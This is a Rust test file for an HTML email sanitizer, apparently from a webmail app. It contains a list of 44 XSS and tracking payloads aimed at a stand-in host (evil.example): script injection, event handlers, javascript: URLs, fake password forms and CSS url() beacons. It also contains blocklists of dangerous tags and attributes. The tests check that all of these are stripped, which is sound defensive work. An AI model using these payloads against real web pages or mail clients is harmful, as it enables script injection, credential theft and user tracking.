//! The nasty corpus: what letters have done to mail pages before. Nothing of it may be left in either view.

use super::*;
use crate::limits;
use std::sync::Arc;
use std::time::Duration;
use tokio::sync::Semaphore;

const NASTY: [&str; 44] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<body onload=alert(1)>x",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\" java\nscript:alert(1)\">x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href=\"vbscript:x\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<iframe src=//evil.example></iframe>",
    "<object data=//evil.example></object><embed src=//evil.example>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math href=javascript:alert(1)>x</math>",
    "<form action=//evil.example><input name=p type=password><button>x</button></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'; body{background:url(//evil.example)}</style>",
    "<style>p{background:url(//evil.example/a)} @font-face{src:url(//evil.example)}</style><p>x</p>",
    "<p style=\"background:url(//evil.example)\">x</p>",
    "<p style=\"background-image:url('//evil.example')\">x</p>",
    "<p style=\"width:expression(alert(1))\">x</p>",
    "<p style=\"position:fixed;top:0;left:0;width:100%;height:100%\">x</p>",
    "<p style='color:red;}</style><script>alert(1)</script>'>x</p>",
    "<td background=//evil.example>x</td>",
    "<table background=//evil.example><tr><td>x</table>",
    "<img src=//evil.example/pixel.gif width=1 height=1>",
    "<img srcset='//evil.example/x 1x'>",
    "<img src='cid:x' onload=alert(1)>",
    "<video src=//evil.example poster=//evil.example></video><audio src=//evil.example></audio>",
    "<input type=image src=//evil.example>",
    "<isindex action=javascript:alert(1)>",
    "<a href=x ping=//evil.example>x</a>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<template><script>alert(1)</script></template>",
    "<textarea></textarea><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<xmp><script>alert(1)</script></xmp>",
    "<p id=noi-dung class=bar name=x>x</p>",
    "<a href=\"https://ok.example/\" target=_top rel=opener>x</a>",
    "<div title='\"><script>alert(1)</script>'>x</div>",
];

/// Looks at the tags that are left, the way a browser would.
fn assert_harmless(html: &str, from: &str) {
    let lower = html.to_lowercase();
    for (at, _) in lower.match_indices('<') {
        let tag: String = lower[at + 1..]
            .chars()
            .take_while(|c| c.is_ascii_alphanumeric())
            .collect();
        assert!(
            ![
                "script", "style", "iframe", "object", "embed", "svg", "math", "form", "input",
                "button", "meta", "base", "link", "video", "audio", "template", "textarea",
                "noscript", "body"
            ]
            .contains(&tag.as_str()),
            "{from} left <{tag}> in {html}"
        );
        let end = at + super::tests::tag_end(&lower[at..]);
        let inside = &lower[at..end];
        let names = attribute_names(inside);
        for name in names {
            assert!(
                !name.starts_with("on")
                    && ![
                        "style",
                        "id",
                        "name",
                        "srcset",
                        "ping",
                        "background",
                        "action"
                    ]
                    .contains(&name.as_str()),
                "{from} left {name} in {inside}"
            );
        }
        for scheme in ["javascript:", "vbscript:", "data:text", "evil.example"] {
            assert!(!inside.contains(scheme), "{from} left {scheme} in {inside}");
        }
        if inside.starts_with("<a ") {
            assert!(
                inside.contains("noopener") && inside.contains("_blank"),
                "{inside}"
            );
        }
    }
}

fn tag_end(text: &str) -> usize {
    let mut quote = false;
    for (at, c) in text.char_indices() {
        match c {
            '"' => quote = !quote,
            '>' if !quote => return at,
            _ => {}
        }
    }
    text.len()
}

fn attribute_names(tag: &str) -> Vec<String> {
    let mut names = Vec::new();
    let mut word = String::new();
    let mut quote = false;
    for c in tag.chars() {
        match c {
            '"' => quote = !quote,
            _ if quote => {}
            '=' => names.push(std::mem::take(&mut word)),
            c if c.is_whitespace() => word.clear(),
            c => word.push(c),
        }
    }
    names
}

#[test]
fn nothing_of_the_nasty_corpus_is_left() {
    let pictures = vec![("x".to_owned(), "/thu/1/2/tep/2".to_owned())];
    for html in NASTY {
        assert_harmless(&reader::clean(html, &pictures).unwrap().html, html);
        let original = original::clean(html, &pictures).unwrap();
        assert_harmless(&original.html, html);
        for trick in ["url", "expression", "fixed", "<", "@import", "evil"] {
            assert!(
                !original.sheet.contains(trick),
                "{html} left {}",
                original.sheet
            );
        }
    }
    // Two at a time, in both orders: one may open what the other closes.
    for a in NASTY {
        for b in NASTY {
            let html = format!("{a}{b}");
            assert_harmless(&reader::clean(&html, &pictures).unwrap().html, &html);
            assert_harmless(&original::clean(&html, &pictures).unwrap().html, &html);
        }
    }
}

#[test]
fn words_tables_links_and_own_pictures_stay() {
    let html = "<h1>Giấy mời</h1><table width=760><tr><td colspan=2>Thời gian</td></tr></table>\
        <a href='https://ca-mau.example/a?b=1'>xem</a><img src='cid:logo%40x' alt='Logo'><img src='http://t.example/p'>";
    let pictures = vec![("logo@x".to_owned(), "/thu/1/2/tep/2".to_owned())];
    let reader = reader::clean(html, &pictures).unwrap();
    for part in [
        "<h1>Giấy mời</h1>",
        "colspan=\"2\"",
        "href=\"https://ca-mau.example/a?b=1\"",
        "src=\"/thu/1/2/tep/2\"",
        "alt=\"Logo\"",
        "tabindex=\"0\"",
    ] {
        assert!(
            reader.html.contains(part),
            "{part} is missing in {}",
            reader.html
        );
    }
    assert!(!reader.html.contains("760") && !reader.html.contains("t.example"));
    assert_eq!(reader.blocked, 1);
}

#[test]
fn the_original_keeps_its_look_without_style_attributes() {
    let html = "<style>.a{color:#c00;background:url(x)} p{font-size:20px}</style><p class=a style='text-align:center'>Đỏ</p>";
    let original = original::clean(html, &Vec::new()).unwrap();
    assert!(original.html.contains("class=\"c1\""), "{}", original.html);
    assert!(!original.html.contains("style"), "{}", original.html);
    for rule in ["color:#c00", "font-size:20px", "text-align:center"] {
        assert!(
            original.sheet.contains(rule),
            "{rule} is missing in {}",
            original.sheet
        );
    }
}

#[test]
fn a_letter_cannot_reach_our_addresses() {
    let html = "<a href='/dang-xuat'>x</a><img src='/thu/9/9/tep/1'><a href='//evil.example'>y</a>";
    let clean = reader::clean(html, &Vec::new()).unwrap();
    assert!(
        !clean.html.contains("dang-xuat") && !clean.html.contains("/thu/9"),
        "{}",
        clean.html
    );
}

#[test]
fn fifty_thousand_divs_are_refused_before_parsing() {
    let html = "<div>".repeat(50_000);
    assert_eq!(reader::clean(&html, &Vec::new()), Err(TooMuch::Depth));
    assert_eq!(original::clean(&html, &Vec::new()), Err(TooMuch::Depth));
    let html = "<p>x</p>".repeat(limits::HTML_BYTES_MAX / 8 + 1);
    assert!(reader::clean(&html, &Vec::new()).is_err());
}

#[tokio::test]
async fn a_letter_that_takes_too_long_is_given_up() {
    let slots = Arc::new(Semaphore::new(1));
    let slow = bounded(slots.clone(), Duration::from_millis(20), || {
        std::thread::sleep(Duration::from_millis(300));
        Ok(())
    });
    assert_eq!(slow.await, Err(TooMuch::Time));
    let next = bounded(slots, Duration::from_secs(20), || Ok(7)).await;
    assert_eq!(next, Ok(7), "the slot comes back when the slow one ends");
}
